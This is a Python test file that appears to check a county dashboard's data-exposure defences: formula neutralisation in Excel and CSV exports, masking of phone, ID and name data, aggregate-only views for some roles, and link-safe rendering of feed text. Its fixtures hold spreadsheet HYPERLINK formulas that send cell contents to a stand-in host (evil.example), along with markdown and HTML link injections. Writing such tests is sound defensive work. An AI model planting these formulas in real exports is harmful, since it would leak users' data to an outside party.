"""Data exposure (issue 12, holes 3, 4, 7 and the data members of 8): a poisoned feed — formulas, markup and
personal data in free text, exact coordinates — through the real ETL into a real warehouse, every role through
the real login form (AppTest: every element the server sends is searched, tables as Arrow, charts as JSON).
The upload endpoint and the exports' download path (holes 6 and 8) are tested on a real server in
tests/test_security_data_server.py."""
from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest
from support.county import sample_county
from support.logins import add_users, login

from core import config
from warehouse import privacy

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "dashboard" / "app.py")
TIMEOUT = 60

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点我")'
FORMULA_GRID = '+HYPERLINK("http://evil.example/?g="&A2)'
MD_OFFICE = "[恶意派出所](http://evil.example/o)"
HTML_TOWN = '<a href="http://evil.example/t">恶意</a>乡'
MD_VILLAGE = "[点我](http://evil.example/v)村"
LON, LAT = "105.123457", "31.587651"
PERSONAL_TEXT = ("+86 138 1234 5678 张三丰与李四光, 身份证510723-19900101-1234, 居民赵大勇反映 138-1234-5679, "
                 "看到钱七星骑车")  # 钱七星: an account holder, in no position the surname rule knows
REPORT_ID = "K9000001"
EVENT_IDS = ("E9000001", "E9000002")


def hostile_county():
    c = sample_county()
    t3 = c.township(HTML_TOWN)
    v3 = c.village(t3, MD_VILLAGE)
    g3 = c.grid(v3, name=FORMULA_GRID)
    a3 = c.account(g3, person_name="孙悟空", phone="13800000009")
    off = c.office(t3, "派出所", MD_OFFICE)
    c.active(a3, 2024, 3, 21)
    c.active(off, 2024, 3, 21, op_type="签收")
    c.event(g3, dt.datetime(2024, 3, 6, 9), summary=FORMULA, event_id=EVENT_IDS[0], category="=1+2",
            lon=LON, lat=LAT, coord_sys="WGS84")
    c.event(g3, dt.datetime(2024, 3, 7, 9), summary=PERSONAL_TEXT, event_id=EVENT_IDS[1],
            lon="105.123911", lat="31.587102", coord_sys="WGS84")
    c.report(g3, "流动人口", dt.datetime(2024, 3, 8), police=MD_OFFICE, report_id=REPORT_ID)
    return c, t3


@pytest.fixture(scope="module")
def county(tmp_path_factory):
    root = tmp_path_factory.mktemp("security-data")
    cfg = root / "config.toml"
    cfg.write_text(f'[paths]\ndata_dir = "{root}"\ndrop_dir = "{root}/drop"\nlake_dir = "{root}/lake"\n'
                   f'warehouse_dir = "{root}/wh"\n[demo]\nauto = false\n', encoding="utf-8")
    old = os.environ.get(config.ENV_VAR)
    os.environ[config.ENV_VAR] = str(cfg)
    config.settings.cache_clear()
    c, t3 = hostile_county()
    c.build(root, settings=config.settings(), load_time=dt.datetime(2024, 4, 1))
    st_ = add_users(config.settings())
    yield root, t3, st_
    if old:
        os.environ[config.ENV_VAR] = old
    else:
        os.environ.pop(config.ENV_VAR, None)
    config.settings.cache_clear()


def _session(user: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    login(at, user)
    assert not at.exception, [e.value for e in at.exception]
    return at


def _open(at: AppTest, page: str, **params) -> AppTest:
    at.switch_page(str(ROOT / "pages" / page))
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def sent(at: AppTest) -> str:
    out: list[bytes] = []

    def walk(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "SerializeToString"):
            out.append(proto.SerializeToString())
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)  # noqa: SLF001
    return b"".join(out).decode("utf-8", errors="replace")


# ---------------------------------------------------------------------------------------- hole 3: formulas
def _no_formula_cells(xlsx: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    cells_ = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells_ if c.data_type == "f"], "formula cells in the export"
    return cells_


def test_neutralise_rule():
    from warehouse import cells

    for bad in ("=1+2", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x", FORMULA):
        assert cells.neutralise(bad) == "'" + bad
    for ok in ("-3", "+1.5", "85.7%", "文昌镇", "", "张**", -5, 3.5, None):
        assert cells.neutralise(ok) == ok


def test_every_export_neutralises_formulas(county):
    from dashboard import ui
    from warehouse import bulletin
    from warehouse.bulletin_xlsx import render_xlsx
    from warehouse.metrics import Period, Scope

    root, t3, _ = county
    at = _open(_session("admin"), "events.py", p="2024-03", k="month", u=t3)
    ev = next(d.value for d in at.dataframe if "事件描述 (已脱敏)" in d.value.columns)  # the event list as shown
    assert FORMULA in set(ev["事件描述 (已脱敏)"])
    table = pd.DataFrame({"单位": [FORMULA_GRID, "文昌镇"], "差值": [-5, 3], "比率": [-0.25, 0.5]})
    for df in (ev, table):
        xlsx_cells = _no_formula_cells(ui._xlsx(df, "导出"))  # noqa: SLF001 — the pages' (and the full export's) Excel
        values = [c.value for c in xlsx_cells]
        csv = ui.csv_bytes(df).decode("utf-8-sig")
        for bad in (FORMULA, FORMULA_GRID):
            if bad in set(df.astype(str).to_numpy().ravel()):
                assert "'" + bad in values and bad not in values
                assert ("'" + bad).replace('"', '""') in csv
    num = {c.value for c in _no_formula_cells(ui._xlsx(table, "t")) if c.data_type == "n"}  # noqa: SLF001
    assert {-5, -0.25} <= num  # negative numbers stay numbers
    # the bulletin's workbook: the same rule (a grid, office or unit name is feed text)
    from dashboard import data

    con, _ = data.connection()
    b = bulletin.compute(con, Period.month(2024, 3), Scope())
    b.tables[0].rows[0][1] = FORMULA  # a name as the feed could deliver it
    values = [c.value for c in _no_formula_cells(render_xlsx(b))]
    assert "'" + FORMULA in values and FORMULA not in values


# ---------------------------------------------------------------------------------------- hole 4: masking
@pytest.mark.parametrize("text,masked", [
    ("联系电话+8613812345678", "联系电话+86138****5678"),
    ("电话 138-1234-5678。", "电话 138****5678。"),
    ("电话 138 1234 5678", "电话 138****5678"),
    ("+86 138 1234 5678", "+86 138****5678"),
    ("１３８１２３４５６７８", "１３８****５６７８"),
    ("13812345678", "138****5678"),
    ("身份证510723-19900101-1234", "身份证510723********1234"),
    ("身份证 510723 19900101 123X", "身份证 510723********123X"),
    ("510723199001011234", "510723********1234"),
    ("张三丰与李四光", "张**与李**"),
    ("居民赵大勇反映路灯损坏", "居民赵**反映路灯损坏"),
    ("报警人欧阳小明称被盗", "报警人欧阳**称被盗"),
    ("户主孙立家门口堆放杂物", "户主孙*家门口堆放杂物"),
    # ordinary words are left alone (and the demo's own pseudonyms)
    ("红牌、黄牌督办", "红牌、黄牌督办"), ("村民王某与邻居李某因琐事发生纠纷", "村民王某与邻居李某因琐事发生纠纷"),
    ("宏仁村5组路灯损坏, 高速路口积水", "宏仁村5组路灯损坏, 高速路口积水"),
])
def test_free_text_masking_variants(text, masked):
    assert privacy.mask_text(text) == masked


def test_known_names_are_masked_anywhere():
    names = privacy.KnownNames(["钱七星", "张三丰"])
    assert privacy.mask_text("钱七星家的狗咬了张三丰", names) == "钱**家的狗咬了张**"


def test_masked_roles_get_event_text_masked_by_the_metrics_layer(county):
    at = _open(_session("admin"), "events.py", p="2024-03", k="month", u=county[1])
    text = sent(at)
    for secret in ("138 1234 5678", "1234 5678", "张三丰与李四光", "19900101", "赵大勇", "138-1234-5679", "钱七星"):
        assert secret not in text, secret
    assert "张**与李**" in text and "居民赵**反映" in text and "+86 138****5678" in text and "看到钱**骑车" in text


# ---------------------------------------------------------------------------------------- hole 7: aggregates only
RECORD_LEVEL = [*EVENT_IDS, REPORT_ID, LON, LAT, LON[:8], LAT[:7], "105.123911", "31.587102", "105.1239", "31.5871",
                FORMULA, "张**", "李**", "510723"]


def _record_ids(root: Path) -> list[str]:
    """Every event id and report id of the warehouse: none may reach 县领导 or the wall."""
    from dashboard import data

    con, _ = data.connection()  # the app's own connection (one configuration per file and process)
    return [r[0] for r in con.cursor().execute(
        "SELECT event_id FROM fact_event UNION ALL SELECT report_id FROM fact_kp_report").fetchall()]


@pytest.mark.parametrize("page,params,view", [
    ("events.py", {}, None), ("events.py", {"u": "t3"}, None), ("key_persons.py", {}, "超时未签收"),
    ("key_persons.py", {"u": "t3"}, "超时未签收"), ("home.py", {}, None), ("compare.py", {}, None),
    ("activity.py", {"u": "t3"}, None), ("wall.py", {}, None), ("bulletin.py", {}, None), ("warnings.py", {}, None)])
def test_leader_receives_no_record_level_rows(county, page, params, view):
    params = {k: (county[1] if v == "t3" else v) for k, v in params.items()}
    at = _open(_session("leader"), page, p="2024-03", k="month", **params)
    if view:
        at.segmented_control(key="_view").set_value(view).run()
        assert not at.exception
    text = sent(at)
    for rec in RECORD_LEVEL + _record_ids(county[0]):
        assert rec not in text, (page, rec)


def test_wall_display_gets_coarsened_points_only(county):
    from dashboard import data

    _, _, st_ = county
    _, token = st_.add_token("测试大屏", actor="test")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.query_params["display_token"] = token
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    text = sent(at)
    assert "指挥中心" in text
    for rec in RECORD_LEVEL + _record_ids(county[0]):
        assert rec not in text, rec
    # what the wall's map gets: events counted per grid centre or ~200 m cell, never an event's coordinates
    con, _ = data.connection()
    from warehouse import metrics
    pts = metrics.query(con, "overview/event_points", metrics.Scope(personal="none"),
                        **metrics.period_params(metrics.Period.month(2024, 3)))
    mine = pts[(pts["lon"] - 105.1235).abs() < 0.01]
    assert list(mine["events"]) == [2]  # both events of the grid, one point
    assert abs(mine["lon"].iloc[0] - 105.123) < 1e-9 and abs(mine["lat"].iloc[0] - 31.587) < 1e-9


# ---------------------------------------------------------------------------------------- hole 8: feed text is text
def _chart_strings(at: AppTest) -> list[str]:
    out = []

    def walk(v):
        if isinstance(v, str):
            out.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)
    for el in at.get("plotly_chart"):
        walk(json.loads(el.proto.spec))
    return out


LINK = re.compile(r"(?<!\\)\]\((?:http|www)|(?<!\\)<a\s|https?:(?!\\)")


@pytest.mark.parametrize("page,params,view", [
    ("activity.py", {}, "部门账号"), ("key_persons.py", {}, "各部门"), ("key_persons.py", {}, None),
    ("events.py", {}, None), ("events.py", {"u": "t3"}, None), ("activity.py", {"u": "t3"}, None),
    ("bulletin.py", {}, None), ("wall.py", {}, None), ("compare.py", {"units": "t3,510799002"}, None)])
def test_feed_text_is_never_markup(county, page, params, view):
    params = {k: v.replace("t3", county[1]) for k, v in params.items()}
    at = _open(_session("admin"), page, p="2024-03", k="month", **params)
    if view:
        at.segmented_control(key="_view").set_value(view).run()
        assert not at.exception
    md = [e.proto.body for e in at.markdown] + [e.proto.body for e in at.caption] + \
         [e.proto.body for e in at.subheader] + [m.proto.label for m in at.metric]
    for body in md:
        if "evil.example" in body:
            assert not LINK.search(body), (page, body)
    for s in _chart_strings(at):
        assert "<a " not in s and "<a\u00a0" not in s, (page, s)


# ---------------------------------------------------------------------------------------- hole 8: allow-list
def _probe():
    import datetime as dt

    import streamlit as st

    from dashboard import auth, data
    from warehouse.metrics import ScopeError

    auth._start("user", st.session_state["who"], "password")  # noqa: SLF001 — as the login form does
    own = auth.current().scope
    res = {}
    for name in ("overview/headline", "overview/unit_ranking", "comparison/rankings", "kp/by_office",
                 "overview/kp_tallies", "events/list", "kp/overdue_signoffs", "quality/runs", "overview/event_points"):
        try:
            data.q(name, own, start=dt.date(2024, 3, 1), end=dt.date(2024, 4, 1), prev_start=dt.date(2024, 2, 1),
                   prev_end=dt.date(2024, 3, 1), as_of=dt.datetime(2024, 4, 1), end_month=None, months_back=1)
            res[name] = "ok"
        except ScopeError:
            res[name] = "refused"
        except Exception as exc:  # noqa: BLE001 — a query that ran but lacked a parameter was allowed
            res[name] = "ok" if isinstance(exc, KeyError) else type(exc).__name__
    st.write(res)


@pytest.mark.parametrize("who,allowed", [
    ("department", {"kp/by_office", "overview/kp_tallies", "kp/overdue_signoffs"}),
    ("leader", {"overview/headline", "overview/unit_ranking", "comparison/rankings", "kp/by_office",
                "overview/kp_tallies", "overview/event_points"}),
    ("township", {"overview/headline", "overview/unit_ranking", "kp/by_office", "overview/kp_tallies",
                  "events/list", "kp/overdue_signoffs"}),
])
def test_data_layer_runs_only_the_queries_of_the_roles_pages(county, who, allowed):
    at = AppTest.from_function(_probe, default_timeout=TIMEOUT)
    at.session_state["who"] = who
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    got = at.json[0].value
    got = json.loads(got) if isinstance(got, str) else got
    assert {k for k, v in got.items() if v == "ok"} == allowed, got
    assert all(v in ("ok", "refused") for v in got.values()), got


SAMPLE_PERSONAL = {"name": "张三丰", "id": "510723199001011234", "phone": "13812345678",
                   "text": "居民赵大勇反映，电话13812345678，身份证510723199001011234"}


def test_every_personal_column_of_the_contract_is_masked():
    """The feed contract (core.spec, Column.personal) is the one list of personal data: every column it marks
    personal is masked for a masked role (no original value survives) and absent for a role without personal data."""
    from core import spec

    marked = [(d.name, c) for d in spec.DATASETS.values() for c in d.columns if c.personal]
    assert {c.personal for _, c in marked} == set(spec.PERSONAL_KINDS)
    assert all(c.personal in spec.PERSONAL_KINDS for d in spec.DATASETS.values() for c in d.columns if c.personal)
    for dataset, c in marked:
        assert c.name in privacy.PERSONAL_COLUMNS, (dataset, c.name)
        value = SAMPLE_PERSONAL[c.personal]
        df = pd.DataFrame({c.name: [value], "unit_code": ["U1"]})
        masked = privacy.apply(df, "masked")[c.name].iloc[0]
        assert masked != value and "*" in masked, (dataset, c.name, masked)
        for secret in ("大勇", "三丰", "12345678", "99001011"):
            assert secret not in masked, (dataset, c.name, masked)
        assert list(privacy.apply(df, "none").columns) == ["unit_code"], (dataset, c.name)
        assert privacy.apply(df, "full")[c.name].iloc[0] == value
